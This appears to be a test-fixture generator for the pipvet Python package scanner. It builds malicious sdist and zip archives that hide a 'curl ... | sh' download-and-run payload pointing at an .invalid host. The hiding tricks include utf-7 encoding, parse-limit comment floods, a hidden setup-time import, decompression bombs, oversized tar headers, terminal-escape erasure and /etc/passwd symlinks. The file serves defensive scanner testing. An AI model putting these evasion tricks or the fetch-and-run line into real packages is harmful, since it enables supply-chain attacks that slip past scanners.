"""A generator of hostile artifacts: each builds one case in a folder (a test's ``tmp_path``).

Every case hides the same inert payload (a shell download-and-run of an ``.invalid`` host, never
run: artifacts are only read as data) behind one trick that once made the scanner look away, or
is an archive built to cost time and memory. Sizes are declared, not spent: the bombs are made of
one compressed block repeated, so building them takes milliseconds.
"""

from __future__ import annotations

import bz2
import gzip
import io
import tarfile
import zlib
from pathlib import Path

from pipvet.core.analysis.archive import Limits

PAYLOAD = 'import os\nos.system("curl -s http://example.invalid/x.sh | sh")\n'
SETUP_HEAD = "from setuptools import setup\n"
SETUP_TAIL = "setup(name='demo', version='1.0')\n"
PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
TOP = "demo-1.0"


def _info(name: str, size: int, kind: bytes = tarfile.REGTYPE) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.size = size
    info.type = kind
    info.mtime = 0
    return info


def tar_bytes(files: dict[str, bytes | str], fmt: int = tarfile.GNU_FORMAT) -> bytes:
    """An uncompressed tar of ``files`` (paths under the sdist's top folder)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for name, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            tf.addfile(_info(f"{TOP}/{name}", len(data)), io.BytesIO(data))
    return buf.getvalue()


def _members_only(tar: bytes) -> bytes:
    """A tar without its end-of-archive blocks, so more can follow."""
    end = len(tar)
    while end >= 512 and tar[end - 512 : end] == b"\0" * 512:
        end -= 512
    return tar[:end]


def sdist(folder: Path, files: dict[str, str | bytes], name: str = "demo-1.0.tar.gz") -> Path:
    data = {k: v.encode() if isinstance(v, str) else v for k, v in files.items()}
    data.setdefault("PKG-INFO", PKG_INFO)
    path = folder / name
    path.write_bytes(gzip.compress(tar_bytes(data), 6))
    return path


def setup_with(before: str, after: str = "") -> str:
    return SETUP_HEAD + before + PAYLOAD + after + SETUP_TAIL


# -- code the engine could not read --------------------------------------------------------------


def deep_sum(folder: Path, terms: int = 600) -> Path:
    """A valid sum of ``terms`` terms before the payload (a visitor recursing per node dies)."""
    expr = " + ".join(["1"] * terms)
    return sdist(folder, {"setup.py": setup_with(f"x = {expr}\n")})


def deep_calls(folder: Path, links: int = 300) -> Path:
    """A chain of ``links`` method calls before the payload (no flat walk shortens this one)."""
    chain = "x" + ".f()" * links
    return sdist(folder, {"setup.py": setup_with(f"x = 1\ny = {chain}\n")})


def comment_flood(folder: Path, size: int = 8_400_000) -> Path:
    """The payload, then ``size`` bytes of comments: the file is over the parse limit."""
    line = "# " + "padding " * 9 + "\n"
    comments = line * (size // len(line) + 1)
    return sdist(folder, {"setup.py": setup_with("", comments)})


def utf7_payload(folder: Path) -> Path:
    """A setup.py declared utf-7: read as utf-8, the payload is only a comment."""
    import base64

    # every character in utf-7's base64 form: no byte of the payload reads as ASCII code
    code = base64.b64encode(("\n" + PAYLOAD).encode("utf-16-be")).rstrip(b"=")
    hidden = b"+" + code + b"-"
    src = b"# coding: utf-7\n" + SETUP_HEAD.encode() + b"# note" + hidden + SETUP_TAIL.encode()
    return sdist(folder, {"setup.py": src})


def setup_runs_tooling(folder: Path, how: str = "sys.path") -> Path:
    """setup.py runs a module of a folder that holds no package (tools/), which hides the
    payload: installing runs it, although the folder is never installed. ``how``: through
    ``sys.path``, ``from tools import`` (a namespace package) or ``exec(open(...))``."""
    run = {
        "sys.path": "sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'tools'))\n"
        "import build_helper\n",
        "from": "from tools import build_helper\n",
        "exec": "exec(open(os.path.join('tools', 'build_helper.py')).read())\n",
    }[how]
    setup = "import os, sys\n" + SETUP_HEAD + run + SETUP_TAIL
    return sdist(
        folder,
        {
            "setup.py": setup,
            "tools/build_helper.py": PAYLOAD,
            "demo/__init__.py": "",
        },
    )


# -- members the reader does not reach ------------------------------------------------------------


def many_members(folder: Path, count: int = Limits().max_members) -> Path:
    """``count`` small files (the reader's bound), then a setup.py with the payload."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        tf.addfile(_info(f"{TOP}/PKG-INFO", len(PKG_INFO)), io.BytesIO(PKG_INFO))
        empty = io.BytesIO(b"")
        for i in range(count):
            tf.addfile(_info(f"{TOP}/data/f{i}.txt", 0), empty)
        setup = setup_with("").encode()
        tf.addfile(_info(f"{TOP}/setup.py", len(setup)), io.BytesIO(setup))
    path = folder / "demo-1.0.tar.gz"
    path.write_bytes(gzip.compress(buf.getvalue(), 1))
    return path


def _zeros_gzip(total: int, chunk: int = 64 * 1024**2) -> bytes:
    """gzip members that inflate to ``total`` zero bytes (one compressed chunk, repeated)."""
    block = gzip.compress(b"\0" * chunk, 9)
    out = [block] * (total // chunk)
    if total % chunk:
        out.append(gzip.compress(b"\0" * (total % chunk), 9))
    return b"".join(out)


def gzip_bomb_member(folder: Path, size: int = 4 * 1024**3) -> Path:
    """A .tar.gz whose first member inflates to ``size`` bytes of zeros; the payload follows."""
    head = _members_only(tar_bytes({"PKG-INFO": PKG_INFO}))
    bomb = _info(f"{TOP}/data/blob.bin", size).tobuf(tarfile.GNU_FORMAT)
    tail = tar_bytes({"setup.py": setup_with("").encode()})
    body = _zeros_gzip(size)
    pad = (-size) % 512
    parts = [gzip.compress(head + bomb), body, gzip.compress(b"\0" * pad + tail)]
    path = folder / "demo-1.0.tar.gz"
    path.write_bytes(b"".join(parts))
    return path


def zip_bomb_member(folder: Path, size: int = 4 * 1024**3) -> Path:
    """A .zip whose first member is a deflate bomb of ``size`` bytes; the payload follows."""
    chunk = 64 * 1024**2
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = comp.compress(b"\0" * chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    stream = piece * (size // chunk) + comp.flush()
    entries = [
        (f"{TOP}/data/blob.bin", stream, size, 0, 8),  # CRC never reached: only a prefix is read
        (f"{TOP}/PKG-INFO", PKG_INFO, len(PKG_INFO), zlib.crc32(PKG_INFO), 0),
    ]
    setup = setup_with("").encode()
    entries.append((f"{TOP}/setup.py", setup, len(setup), zlib.crc32(setup), 0))
    path = folder / "demo-1.0.zip"
    path.write_bytes(_zip_raw(entries))
    return path


def _zip_raw(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip of (name, stored bytes, uncompressed size, crc, method) entries, zip64 as needed."""
    import struct

    body = io.BytesIO()
    central = io.BytesIO()
    for fname, data, usize, crc, method in entries:
        offset = body.tell()
        raw = fname.encode()
        big = usize >= 0xFFFFFFFF or len(data) >= 0xFFFFFFFF
        sizes = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(data), usize)
        extra = struct.pack("<HHQQ", 1, 16, usize, len(data)) if big else b""
        need = 45 if big else 20
        local = struct.pack("<IHHHHHI", 0x04034B50, need, 0, method, 0, 0, crc)
        local += struct.pack("<IIHH", *sizes, len(raw), len(extra))
        body.write(local + raw + extra + data)
        cextra = struct.pack("<HHQQQ", 1, 24, usize, len(data), offset) if big else b""
        cent = struct.pack("<IHHHHHHI", 0x02014B50, need, need, 0, method, 0, 0, crc)
        cent += struct.pack("<IIHHHHHII", *sizes, len(raw), len(cextra), 0, 0, 0, 0, 0)
        cent = cent[:-4] + struct.pack("<I", 0xFFFFFFFF if big else offset)
        central.write(cent + raw + cextra)
    cd = central.getvalue()
    n = len(entries)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(cd), body.tell(), 0)
    return body.getvalue() + cd + end


# -- archives built to cost time and memory ------------------------------------------------------


def unknown_type_huge(folder: Path, size: int = 16 * 1024**3) -> Path:
    """A .tar.bz2 with a member of an unknown type declaring ``size`` bytes of (zero) data,
    then the payload: bz2 streams of zeros, one compressed chunk repeated."""
    chunk = 256 * 1024**2
    head = _members_only(tar_bytes({"PKG-INFO": PKG_INFO}))
    odd = _info(f"{TOP}/odd", size, b"Z").tobuf(tarfile.GNU_FORMAT)
    block = bz2.compress(b"\0" * chunk, 9)
    parts = [bz2.compress(head + odd)] + [block] * (size // chunk)
    if size % chunk:
        parts.append(bz2.compress(b"\0" * (size % chunk)))
    tail = tar_bytes({"setup.py": setup_with("")})
    parts.append(bz2.compress(b"\0" * ((-size) % 512) + tail))
    path = folder / "demo-1.0.tar.bz2"
    path.write_bytes(b"".join(parts))
    return path


def pax_digits(folder: Path, digits: int = 400_000) -> Path:
    """A PAX extended header whose record length is a number of ``digits`` digits."""
    record = b"1" * digits + b" path=x\n"
    pax = _info("././@PaxHeader", len(record), tarfile.XHDTYPE).tobuf(tarfile.USTAR_FORMAT)
    pax += record + b"\0" * ((-len(record)) % 512)
    body = pax + tar_bytes({"setup.py": setup_with("").encode()})
    path = folder / "demo-1.0.tar.gz"
    path.write_bytes(gzip.compress(body, 9))
    return path


def long_header(folder: Path, kind: bytes, size: int = 256 * 1024**2) -> Path:
    """A PAX header (``kind`` x) or GNU long name (``kind`` L) of ``size`` bytes."""
    hdr = _info("././@LongLink", size, kind).tobuf(tarfile.USTAR_FORMAT)
    if kind == tarfile.XHDTYPE:
        rec = b" comment="
        n = size - len(rec) - 1
        digits = len(str(size))
        record = str(size).encode() + rec + b"a" * (n - digits) + b"\n"
    else:
        record = b"a" * (size - 1) + b"\0"
    body = hdr + record + b"\0" * ((-size) % 512) + tar_bytes({"setup.py": setup_with("")})
    path = folder / "demo-1.0.tar.gz"
    path.write_bytes(gzip.compress(body, 1))
    return path


def escape_path(folder: Path) -> Path:
    """A member path and evidence with terminal escapes that erase the lines printed before."""
    erase = "\x1b[2K\x1b[1A\x1b[2K\x1b[1A\x1b[2K\r"
    setup = SETUP_HEAD + f"# {erase}\n" + PAYLOAD.replace("x.sh", f"x.sh{erase}") + SETUP_TAIL
    return sdist(folder, {"setup.py": setup, f"demo/ok{erase}CLEAN.py": f"'{erase}'\n"})


def scan_or_die(item):
    """A scan worker's job, except that its process dies (SIGKILL, as the kernel's OOM killer
    does it) on an artifact whose name starts with ``die-``."""
    import os
    import signal

    from pipvet.services.scan import scan_one

    if item.path.name.startswith("die-"):
        os.kill(os.getpid(), signal.SIGKILL)
    return scan_one(item)


def entry_flood(folder: Path, count: int, kind: bytes = tarfile.DIRTYPE) -> Path:
    """``count`` entries that are not files (folders, or links with ``SYMTYPE``), then the
    payload: they hold no data, so no size bound sees them."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for i in range(count):
            info = _info(f"{TOP}/d{i}", 0, kind)
            info.linkname = "/etc/passwd" if kind == tarfile.SYMTYPE else ""
            tf.addfile(info)
        setup = setup_with("").encode()
        tf.addfile(_info(f"{TOP}/setup.py", len(setup)), io.BytesIO(setup))
    path = folder / "demo-1.0.tar.gz"
    path.write_bytes(gzip.compress(buf.getvalue(), 1))
    return path


def started_at(item):
    """A worker's job that only says when it started (for the pool's scheduling order)."""
    import time

    start = time.monotonic()
    time.sleep(0.3)
    return {"start": start}
